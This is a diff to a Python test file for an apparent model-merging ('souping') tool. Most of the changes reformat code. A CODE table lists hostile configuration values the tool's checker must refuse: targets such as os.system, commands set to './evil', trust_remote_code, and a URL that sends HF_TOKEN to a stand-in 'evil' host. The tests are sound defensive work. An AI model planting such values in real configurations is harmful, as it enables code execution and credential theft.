@@ -68,7 +68,12 @@ FILES = {
     ],
 )
 def test_bad_settings(
-    family: Path, souping: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: str, needles: list[str]
+    family: Path,
+    souping: Cli,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    words: str,
+    needles: list[str],
 ) -> None:
     monkeypatch.setenv("HOME", str(tmp_path / "home"))
     shutil.copytree(family / "bee", tmp_path / "x" / "ant")
@@ -103,15 +108,24 @@ def test_a_candidate_that_is_broken(family: Path, souping: Cli, tmp_path: Path) 
     ],
 )
 def test_files_that_libraries_refuse(
-    family: Path, souping: Cli, tmp_path: Path, file: str, content: str | dict[str, Any], needle: str
+    family: Path,
+    souping: Cli,
+    tmp_path: Path,
+    file: str,
+    content: str | dict[str, Any],
+    needle: str,
 ) -> None:
     for name in ("ant", "bee"):
         path = Path(shutil.copytree(family / name, tmp_path / name)) / file
-        changed = {**json.loads(path.read_text()), **content} if isinstance(content, dict) else content
+        changed = (
+            {**json.loads(path.read_text()), **content} if isinstance(content, dict) else content
+        )
         path.write_text(changed if isinstance(changed, str) else json.dumps(changed))
     rows = [json.loads(line) for line in (family / "items.jsonl").read_text().splitlines()]
     chat = [{**row, "prompt": [{"role": "user", "content": row["prompt"]}]} for row in rows]
-    (tmp_path / "items.jsonl").write_text("\n".join(map(json.dumps, chat if "chat" in file else rows)))
+    (tmp_path / "items.jsonl").write_text(
+        "\n".join(map(json.dumps, chat if "chat" in file else rows))
+    )
     souping(*pool_of(tmp_path, "ant", "bee"), "selector=all").refused(needle)
     assert not (tmp_path / "outputs" / "fam").exists()
 
@@ -120,7 +134,13 @@ def test_files_that_libraries_refuse(
 def test_the_table_of_a_sweep_has_refused_jobs(
     family: Path, souping: Cli, tmp_path: Path, sizes: str, ran: int
 ) -> None:
-    words = ["selector=topk", f"selector.k={sizes}", "optimiser=uniform", "stop_after=search", "hydra.sweep.dir=sweep"]
+    words = [
+        "selector=topk",
+        f"selector.k={sizes}",
+        "optimiser=uniform",
+        "stop_after=search",
+        "hydra.sweep.dir=sweep",
+    ]
     done = souping("-m", *pool_of(family), *words)
     assert done.code == 2
     assert done.err.splitlines()[-1].endswith("see sweep.csv")
@@ -131,8 +151,15 @@ def test_the_table_of_a_sweep_has_refused_jobs(
     assert len([path for path in (tmp_path / "sweep").iterdir() if path.is_dir()]) == ran
 
 
-def test_a_second_run_or_multirun_overwrites_no_first_one(family: Path, souping: Cli, tmp_path: Path) -> None:
-    words = [*pool_of(family, "ant", "bee"), "selector=all", "optimiser=uniform", "stop_after=search"]
+def test_a_second_run_or_multirun_overwrites_no_first_one(
+    family: Path, souping: Cli, tmp_path: Path
+) -> None:
+    words = [
+        *pool_of(family, "ant", "bee"),
+        "selector=all",
+        "optimiser=uniform",
+        "stop_after=search",
+    ]
     souping(*words, "hydra.run.dir=run").ok()
     before = (tmp_path / "run/config.yaml").read_bytes()
     done = souping(*words, "seed=1", "hydra.run.dir=run").ok()
@@ -218,15 +245,23 @@ def swapped(group: str, target: str, *more: str) -> list[str]:
 @pytest.mark.parametrize(
     ("words", "said"),
     [
-        (swapped("selector", "Picks", "+selector.names=[nobody,ant]"), "chose 'nobody', which is no candidate: ant"),
+        (
+            swapped("selector", "Picks", "+selector.names=[nobody,ant]"),
+            "chose 'nobody', which is no candidate: ant",
+        ),
         (swapped("objective", "Short"), "must give 3 coefficients"),
         (swapped("correlation", "small"), ": rho has shape (1, 1), not (3, 3)"),
         (swapped("optimiser", "Search"), "started a int, which is no Optimiser: subclass it"),
-        (swapped("optimiser", "Search", "+optimiser.start_at=a"), ": TypeError: unsupported operand"),
+        (
+            swapped("optimiser", "Search", "+optimiser.start_at=a"),
+            ": TypeError: unsupported operand",
+        ),
         (swapped("optimiser", "factory"), "makes a int, no Strategy"),
     ],
 )
-def test_what_a_part_gives_is_looked_at(family: Path, souping: Cli, mine: None, words: list[str], said: str) -> None:
+def test_what_a_part_gives_is_looked_at(
+    family: Path, souping: Cli, mine: None, words: list[str], said: str
+) -> None:
     done = souping(*pool_of(family), *(["selector=all"] if "~optimiser" in words else []), *words)
     done.refused(said)
     assert re.search(r"mine_parts\.\w+ \(\S*mine_parts\.py:\d+\)", done.err), done.err
@@ -235,27 +270,48 @@ def test_what_a_part_gives_is_looked_at(family: Path, souping: Cli, mine: None, 
 def test_a_tracker_that_falls_ends_no_run(family: Path, souping: Cli, mine: None) -> None:
     quick = ["selector=all", "optimiser=uniform", "stop_after=search"]
     done = souping(*pool_of(family), *quick, *swapped("tracker", "Falls")).ok()
-    assert re.search(r"warning: tracker mine_parts.Falls \(.*\): ValueError: no room; the run goes on", done.err)
+    assert re.search(
+        r"warning: tracker mine_parts.Falls \(.*\): ValueError: no room; the run goes on", done.err
+    )
     assert "never asked" not in done.err
 
 
 SOCE = "souping.selection.SoCE"
 CODE: dict[str, tuple[dict[str, Any], str]] = {
     "class": ({"selector": {"_target_": "evil.Evil"}}, "selector._target_"),
-    "way through a module of ours": ({"selector": {"_target_": "souping.core.files.os.system"}}, "selector._target_"),
-    "class in a list": ({"also": [{"evaluator": {"_target_": "evil.Evil"}}]}, "also[0].evaluator._target_"),
-    "scorer": ({"benchmark": {"_target_": SOCE, "scorers": {"mine": "evil.f"}}}, "benchmark.scorers"),
+    "way through a module of ours": (
+        {"selector": {"_target_": "souping.core.files.os.system"}},
+        "selector._target_",
+    ),
+    "class in a list": (
+        {"also": [{"evaluator": {"_target_": "evil.Evil"}}]},
+        "also[0].evaluator._target_",
+    ),
+    "scorer": (
+        {"benchmark": {"_target_": SOCE, "scorers": {"mine": "evil.f"}}},
+        "benchmark.scorers",
+    ),
     "command": ({"merge": {"_target_": SOCE, "command": "./evil"}}, "merge.command"),
     "interpreter": ({"server": {"_target_": SOCE, "python": "./evil"}}, "server.python"),
-    "trust": ({"evaluator": {"_target_": SOCE, "trust_remote_code": True}}, "evaluator.trust_remote_code"),
-    "task, inline": ({"evaluator": {"_target_": SOCE, "tasks": [{"dataset_path": "evil.py"}]}}, "evaluator.tasks"),
+    "trust": (
+        {"evaluator": {"_target_": SOCE, "trust_remote_code": True}},
+        "evaluator.trust_remote_code",
+    ),
+    "task, inline": (
+        {"evaluator": {"_target_": SOCE, "tasks": [{"dataset_path": "evil.py"}]}},
+        "evaluator.tasks",
+    ),
     "cluster": ({"executor": {"_target_": SOCE, "address": "ray://evil"}}, "executor.address"),
     "environment": ({"server": {"url": "http://evil/${oc.env:HF_TOKEN}"}}, "server.url"),
 }
 DATA = {
     "shipped": {"selector": {"_target_": SOCE, "threshold": 0.2}},
-    "switched off": {"evaluator": {"_target_": SOCE, "allow_code": False, "tasks": ["a"], "dir": None}},
-    "a category of that name": {"objective": {"_target_": SOCE, "weights": {"python": 1.0, "command": 2.0}}},
+    "switched off": {
+        "evaluator": {"_target_": SOCE, "allow_code": False, "tasks": ["a"], "dir": None}
+    },
+    "a category of that name": {
+        "objective": {"_target_": SOCE, "weights": {"python": 1.0, "command": 2.0}}
+    },
     "text of a folder": {"name": "\\${x}"},
 }
 
@@ -277,7 +333,9 @@ def test_data_is_none(name: str) -> None:
     assert list(code_in(DATA[name])) == []
 
 
-@pytest.mark.parametrize("words", [["+experiment=bfcl"], ["+experiment=bfcl", "selector=topk", "merge=mergekit"]])
+@pytest.mark.parametrize(
+    "words", [["+experiment=bfcl"], ["+experiment=bfcl", "selector=topk", "merge=mergekit"]]
+)
 def test_no_shipped_choice_is_refused(words: list[str]) -> None:
     assert list(code_in(compose(words))) == []
 
@@ -305,7 +363,15 @@ for before, after in pairwise("abcdefghijkl"):
 
 @pytest.mark.parametrize(
     "content",
-    [BOMB.encode(), b"name: \xe9\xff\n", b"[" * 100_000, b"- a\n", b"a: [\n", b"a: \x00\n", b"x" * 2_000_000],
+    [
+        BOMB.encode(),
+        b"name: \xe9\xff\n",
+        b"[" * 100_000,
+        b"- a\n",
+        b"a: [\n",
+        b"a: \x00\n",
+        b"x" * 2_000_000,
+    ],
     ids=["aliases", "latin-1", "nested", "a list", "cut", "NUL", "large"],
 )
 def test_a_damaged_configuration_is_told_with_its_file(content: bytes, tmp_path: Path) -> None:
@@ -318,7 +384,10 @@ def test_a_damaged_configuration_is_told_with_its_file(content: bytes, tmp_path:
 TRIALS = "number,recipe_id,objective,weight:a,score:c,items\n1,f,0.5,1.0,0.5,3\n"
 DEEP = "[" * 100_000
 DAMAGED: dict[str, tuple[Callable[[Path], Any], list[str]]] = {
-    "trials.csv": (read_trials, [TRIALS.replace(",", ";"), TRIALS.replace("0.5,3", "0.5,3,1"), TRIALS + '"x', ""]),
+    "trials.csv": (
+        read_trials,
+        [TRIALS.replace(",", ";"), TRIALS.replace("0.5,3", "0.5,3,1"), TRIALS + '"x', ""],
+    ),
     "report.json": (read_report, [DEEP, "[]", '{"a": ', ""]),
     "samples.jsonl.gz": (lambda path: list(read_samples(path)), [DEEP, "x"]),
 }
